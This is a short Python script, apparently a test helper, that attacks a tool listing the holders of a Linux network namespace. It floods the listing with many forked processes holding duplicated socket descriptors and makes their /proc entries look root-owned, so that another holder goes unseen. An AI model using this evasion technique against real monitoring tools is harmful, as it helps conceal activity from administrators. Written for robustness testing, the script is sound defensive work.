#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""One user's processes and fds crowd the list of a namespace's holders, so that another holder does not show.

attack_hide.py SOCKET PROCESSES FDS: sends the one socket in a namespace to whoever listens at SOCKET, then keeps
it in PROCESSES processes, FDS times in each.
"""
import ctypes
import json
import os
import signal
import socket
import sys

CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
PR_SET_PDEATHSIG, PR_SET_DUMPABLE = 1, 4
libc = ctypes.CDLL(None, use_errno=True)


def unshare(flags):
    if libc.unshare(flags) < 0:
        raise OSError(ctypes.get_errno(), "unshare")


def main(path, processes, fds):
    unshare(CLONE_NEWUSER)
    home = os.open("/proc/self/ns/net", os.O_RDONLY)
    unshare(CLONE_NEWNET)
    inode = os.stat("/proc/self/ns/net").st_ino
    held = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    # Its home is not ours to go back to: a second namespace will do.
    os.close(home)
    unshare(CLONE_NEWNET)
    with socket.socket(socket.AF_UNIX) as other:
        other.connect(path)
        socket.send_fds(other, [b"x"], [held.fileno()])
        other.recv(1)
    parent = os.getpid()
    for _ in range(processes):
        if os.fork() == 0:
            libc.prctl(PR_SET_PDEATHSIG, signal.SIGKILL)
            # So that /proc/PID looks like root's.
            libc.prctl(PR_SET_DUMPABLE, 0)
            [os.dup(held.fileno()) for _ in range(fds)]
            while os.getppid() == parent:
                signal.pause()
            os._exit(0)
    held.close()
    print(json.dumps({"inode": inode}), flush=True)
    sys.stdin.read()
    print(json.dumps({}), flush=True)


main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
